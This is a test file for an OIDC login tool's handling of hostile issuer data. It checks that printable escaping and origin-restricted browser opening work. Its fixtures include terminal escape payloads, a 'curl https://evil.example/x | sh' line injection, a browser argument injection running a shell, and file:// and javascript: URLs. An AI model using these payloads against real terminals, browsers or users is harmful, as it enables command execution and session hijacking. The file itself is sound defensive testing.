/**
 * Issue 17, items 2 and 3: text and URLs from a hostile issuer. Every value is made printable where
 * it enters (lib/printable.ts); only an https: URL on the issuer's origin is ever given to a browser.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { setTimeout as sleep } from 'node:timers/promises';
import { printable, printableLines, terminalSafe, isPrintable } from '../../lib/printable.js';
import { createLogger, redact } from '../../lib/log.js';
import { identityOf } from '../../lib/jwt.js';
import { fileStatus } from '../../lib/agent/inventory.js';
import { logTail, agentLogPath } from '../../lib/client/agent-client.js';
import { openBrowser, openableUrl } from '../../lib/login/browser.js';
import { loginWithDeviceCode } from '../../lib/login/device.js';
import type { IssuerClient, DeviceAuthorization } from '../../lib/oidc/issuer.js';
import type { UiConfig } from '../../lib/flags/table.js';

/** Anything a terminal would act on, or that would start a new line. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
const HOSTILE = [
  '\u001b]0;pwned title\u0007', // OSC 0: window title
  '\u001b[31mred\u001b[0m', // colour
  '\u001b]8;;https://evil.example/\u001b\\https://good.example/\u001b]8;;\u001b\\', // OSC 8 link
  '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007', // OSC 52: clipboard write
  '\u009b31m', // 8-bit CSI
  'line\r\ncurl https://evil.example/x | sh', // CR LF and an injected line
  'admin\u202egnp.exe', // bidi override
  'lone \ud800 surrogate',
  'del\u007f',
];

test('printable: every control, C1, bidi override and lone surrogate comes out escaped, on one line', () => {
  for (const s of HOSTILE) {
    const p = printable(s);
    assert.doesNotMatch(p, CONTROL, JSON.stringify(p));
    assert.doesNotMatch(p, /[\ud800-\udfff]/, 'no surrogate half left');
    assert.ok(isPrintable(p));
    assert.ok(!isPrintable(s));
  }
  assert.equal(printable('a\nb\u001b[0m\u202e'), 'a\\nb\\x1b[0m\\u202e');
  assert.equal(printable('jane@example.com'), 'jane@example.com', 'ordinary text is unchanged');
  assert.equal(printable('Zoë 👩‍💻 日本'), 'Zoë 👩‍💻 日本', 'non-ASCII text and surrogate pairs are kept');
  assert.equal(printable('x'.repeat(500)).length, 201, 'capped, with an ellipsis');
  assert.equal(printable(`${'x'.repeat(199)}\n`), `${'x'.repeat(199)}…`, 'no half escape at the cut');
  assert.equal(printable(`${'x'.repeat(199)}👩`), `${'x'.repeat(199)}…`, 'no half surrogate pair at the cut');
  assert.equal(printableLines('one\u001b[2J\ntwo'), 'one\\x1b[2J\ntwo');
  assert.equal(terminalSafe('a\n\tb\r\u001b]52;c;x\u0007'), 'a\n\tb\\r\\x1b]52;c;x\\x07');
  assert.equal(redact('kubectl-oidc: \u001b[2Jcleared\n'), 'kubectl-oidc: \\x1b[2Jcleared\n', 'every stderr write goes through redact');
});

test('identityOf: claims come back printable (they reach login, status and setup)', () => {
  const who = identityOf({ sub: 'mallory\n# injected\ncurl https://evil.example | sh', email: '\u001b]52;c;eA==\u0007a@b.c', groups: ['ok', '\u001b[31mred', 'x\u202ey'] });
  for (const v of [who.subject!, who.email!, ...who.groups!]) assert.doesNotMatch(v, CONTROL, v);
  assert.equal(who.subject, 'mallory\\n# injected\\ncurl https://evil.example | sh');
  assert.deepEqual(identityOf({ groups: Array.from({ length: 500 }, (_, i) => `g${i}`) }).groups!.length, 50, 'groups capped');
});

test('a token file only on disk: status shows its issuer and client printable too', () => {
  const jwt = (claims: object) => ['{"alg":"none"}', JSON.stringify(claims), ''].map((p) => Buffer.from(p).toString('base64url')).join('.');
  for (const h of HOSTILE) {
    const row = fileStatus({ dir: '/d', key: 'k'.repeat(64), tokens: { idToken: jwt({ iss: `https://idp.example/${h}`, aud: `c${h}`, sub: h }), expiresAt: 1, issuedAt: 0 } } as Parameters<typeof fileStatus>[0]);
    assert.doesNotMatch(row.issuerUrl, CONTROL);
    assert.doesNotMatch(row.clientId, CONTROL);
    assert.ok(row.issuerUrl.startsWith('https://idp.example/'));
  }
});

test('the logger writes one record per call: no control character, no forged line', () => {
  const out: string[] = [];
  const log = createLogger((l) => out.push(l), { debug: false, timestamps: true });
  log.info('refresh failed: invalid_grant\n2026-12-05T00:00:00.000Z info logged in as admin\r\u001b[2K');
  const text = out.join('');
  assert.doesNotMatch(text.replace(/\n/g, ''), CONTROL);
  const lines = text.trimEnd().split('\n');
  assert.equal(lines.filter((l) => /^\d{4}-\d\d-\d\dT/.test(l)).length, 1, `one record: ${JSON.stringify(text)}`);
});

test("the agent log's tail, shown by get-token when the agent fails, is made printable", (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'ko-tail-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const path = agentLogPath(dir);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, 'start\nerror: \u001b]52;c;Y3VybA==\u0007\u001b[2J\nkubectl-oidc: logged in as \u009b31madmin\r\n');
  const tail = logTail(dir);
  assert.doesNotMatch(tail.replace(/\n/g, ''), CONTROL, JSON.stringify(tail));
  assert.match(tail, /\\x1b\]52/);
});

const ISSUER = 'https://dex.example.com/dex';
/** The hostile values of issue 17 item 2, and other ways to point elsewhere. */
const HOSTILE_URLS = [
  '--renderer-cmd-prefix=/bin/sh -c "id > /tmp/pwned"',
  '--renderer-cmd-prefix=/bin/sh',
  'file:///etc/passwd',
  'javascript:alert(document.cookie)',
  'data:text/html,<script>alert(1)</script>',
  'http://dex.example.com/dex/device', // not https
  'https://evil.example/device',
  'https://dex.example.com.evil.example/device',
  'https://dex.example.com:8443/device', // another port: another origin
  'https://user:pw@dex.example.com/device',
  'https://dex.example.com\\@evil.example/device',
  ' https://dex.example.com/device',
  'https://dex.example.com/device\n--renderer-cmd-prefix=x',
  'https://dex.example.com/device?\u001b]8;;x\u0007',
  '//dex.example.com/device',
  '/device',
];

test('openableUrl: only an https URL on the issuer origin, in canonical form', () => {
  for (const bad of HOSTILE_URLS) {
    const r = openableUrl(bad, [ISSUER]);
    assert.equal(r.ok, false, `${JSON.stringify(bad)} was accepted`);
  }
  assert.deepEqual(openableUrl('https://dex.example.com/dex/device?user_code=WDJB-MJHT', [ISSUER]), { ok: true, url: 'https://dex.example.com/dex/device?user_code=WDJB-MJHT' });
  assert.deepEqual(openableUrl('HTTPS://DEX.example.com:443/device', [ISSUER]), { ok: true, url: 'https://dex.example.com/device' });
  assert.equal(openableUrl('http://localhost:8000/login/abc', ['http://localhost:8000/login/abc']).ok, true, 'our own loopback link');
  assert.equal(openableUrl('http://localhost:8001/login/abc', ['http://localhost:8000/login/abc']).ok, false);
});

/** A fake browser on PATH that records its argv. */
function fakeBrowser(t: { after(fn: () => void): void }) {
  const dir = mkdtempSync(join(tmpdir(), 'ko-open-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const record = join(dir, 'argv');
  writeFileSync(join(dir, 'browser'), `#!/bin/sh\nprintf '%s\\n' "$@" > "${record}"\n`);
  chmodSync(join(dir, 'browser'), 0o755);
  const argv = async () => {
    for (let i = 0; i < 80 && !existsSync(record); i++) await sleep(25);
    return existsSync(record) ? readFileSync(record, 'utf8').split('\n').slice(0, -1) : undefined;
  };
  return { dir, argv, env: { PATH: dir, BROWSER: 'browser' } };
}

test('openBrowser refuses every hostile URL before running anything', async (t) => {
  const f = fakeBrowser(t);
  for (const bad of HOSTILE_URLS) {
    await assert.rejects(openBrowser(bad, { env: f.env, allowedOrigins: [ISSUER], viaPage: false }), /not opening/);
    await assert.rejects(openBrowser(bad, { command: 'browser', env: f.env, allowedOrigins: [ISSUER] }), /not opening/);
  }
  assert.equal(await f.argv(), undefined, 'no browser was started');
});

test("the browser's command line names a private page (0600 in a 0700 dir) that forwards to the URL; removed when the login ends", async (t) => {
  const f = fakeBrowser(t);
  const url = 'https://dex.example.com/dex/device?user_code=WDJB-MJHT';
  const ended = new AbortController();
  await openBrowser(url, { env: f.env, allowedOrigins: [ISSUER], platform: 'linux', procVersion: 'Linux version 6.1.0', until: ended.signal });
  const argv = (await f.argv())!;
  assert.equal(argv.length, 1);
  assert.match(argv[0]!, /^file:\/\/\//);
  assert.ok(!argv.join(' ').includes('WDJB'), 'the URL is not in argv');
  const file = fileURLToPath(argv[0]!);
  assert.equal(statSync(file).mode & 0o777, 0o600);
  assert.equal(statSync(dirname(file)).mode & 0o777, 0o700);
  const html = readFileSync(file, 'utf8');
  assert.ok(html.includes(`content="0;url=${url.replace(/&/g, '&#38;')}"`), html);
  assert.ok(html.includes(`location.replace(${JSON.stringify(url)})`));
  ended.abort();
  assert.equal(existsSync(dirname(file)), false, 'removed when the login ended');
});

const ui = (over: Partial<UiConfig> = {}): UiConfig =>
  ({ grantType: 'device-code', listenAddress: ['127.0.0.1:0'], skipOpenBrowser: false, authenticationTimeoutSec: 20, pkceMethod: 'auto', authRequestExtraParams: {}, keyboardRedirectUrl: 'urn:ietf:wg:oauth:2.0:oob', ...over }) satisfies UiConfig;

function deviceIssuer(d: Partial<DeviceAuthorization>): IssuerClient {
  const no = async () => {
    throw new Error('not used');
  };
  return {
    issuerUrl: ISSUER,
    insecure: false,
    authorizationUrl: no,
    capabilities: async () => ({ callbackIss: false, pkceS256: true, deviceCode: true }),
    deviceAuthorization: async () => ({ userCode: 'ABCD', verificationUri: `${ISSUER}/device`, expiresIn: 300, raw: {}, ...d }),
    pollDevice: async () => {
      throw new Error('denied');
    },
    passwordGrant: no,
    clientCredentialsGrant: no,
    exchangeCode: no,
    refreshGrant: no,
    verify: no,
    revoke: async () => 'unsupported' as const,
    close: async () => {},
  };
}

test('device code: a hostile verification_uri(_complete) is shown escaped and never opened', async () => {
  for (const bad of HOSTILE_URLS) {
    for (const field of ['verificationUriComplete', 'verificationUri'] as const) {
      const shown: string[] = [];
      const opened: string[] = [];
      const d = field === 'verificationUri' ? { verificationUri: bad } : { verificationUriComplete: bad };
      await assert.rejects(
        loginWithDeviceCode(deviceIssuer(d), { ui: ui(), env: {}, interactive: true, prompt: async () => null }, {
          show: (m) => shown.push(m),
          log: { info() {}, warn() {}, error() {}, debug() {} },
          openBrowser: async (url) => void opened.push(url),
        }, AbortSignal.timeout(5_000), true),
        /denied/,
      );
      assert.deepEqual(opened, [], `${field} ${JSON.stringify(bad)} was opened`);
      const text = shown.join('\n');
      assert.doesNotMatch(text, CONTROL, JSON.stringify(text));
      assert.equal(text.split('\n').length, 2, `one message line and the URL: ${JSON.stringify(text)}`);
      assert.match(text, /Not opening a browser at the issuer's URL/);
    }
  }
  // The issuer's own https URL is opened (by this fake) and shown.
  const opened: string[] = [];
  await assert.rejects(
    loginWithDeviceCode(deviceIssuer({ verificationUriComplete: `${ISSUER}/device?user_code=ABCD` }), { ui: ui(), env: {}, interactive: true, prompt: async () => null }, {
      show: () => {},
      log: { info() {}, warn() {}, error() {}, debug() {} },
      openBrowser: async (url) => void opened.push(url),
    }, AbortSignal.timeout(5_000), true),
    /denied/,
  );
  assert.deepEqual(opened, [`${ISSUER}/device?user_code=ABCD`]);
});
